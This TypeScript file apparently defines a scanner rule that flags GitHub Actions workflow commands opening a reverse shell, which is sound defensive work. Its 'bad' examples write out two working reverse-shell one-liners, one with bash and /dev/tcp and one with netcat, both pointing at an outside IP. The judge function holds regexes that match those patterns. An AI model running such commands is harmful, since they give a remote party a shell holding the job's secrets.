import { CRITICAL } from '@plumbline/model/severity';
import { cwe, nist } from '../../../rules/rulesets.ts';
import { SECURE_USE, commandRule, oneJob } from '../workflow-rule.ts';

export default commandRule({
  id: 'github_actions_reverse_shell',
  title: 'A command opens a reverse shell',
  terms: ['backdoor', 'netcat'],
  severity: CRITICAL,
  problem: 'Whoever listens at the other end has a shell in the job, with its token and its secrets.',
  remediation: 'Remove the command, change all secrets that the job could read, and find out who added it.',
  sources: ['https://attack.mitre.org/techniques/T1059/004/', SECURE_USE],
  references: [cwe(506), nist('SI-4')],

  examples: {
    bad: [
      oneJob('- run: «bash -i >& /dev/tcp/203.0.113.5/4444 0>&1»'),
      oneJob('- run: «nc -e /bin/sh 203.0.113.5 4444»'),
    ],
    good: [
      oneJob('- run: nc -z localhost 5432'),
      oneJob('- run: timeout 5 bash -c "</dev/tcp/localhost/5432"'),
      oneJob('- run: echo bash -i'),
    ],
  },

  judge({ command: { name, words, source, start, end } }) {
    const texts = words.map(({ text }) => text);
    // What `>&` sends on stands behind the command.
    const isShell =
      /^(?:ba|z|k)?sh$/.test(name) &&
      texts.some((text) => /^-\w*i/.test(text)) &&
      /^[^\n]*>&? ?\/dev\/tcp\//.test(source.text.slice(start, end + 60));
    const isNetcat =
      /^(?:nc|ncat|netcat)$/.test(name) &&
      texts.some((text) => /^-\w*[ec]$|^--(?:exec|sh-exec)$/.test(text)) &&
      texts.some((text) => /(?:ba|z)?sh$|cmd(?:\.exe)?$/.test(text));
    return isShell || isNetcat ? `${name} gives its shell to another machine` : undefined;
  },
});
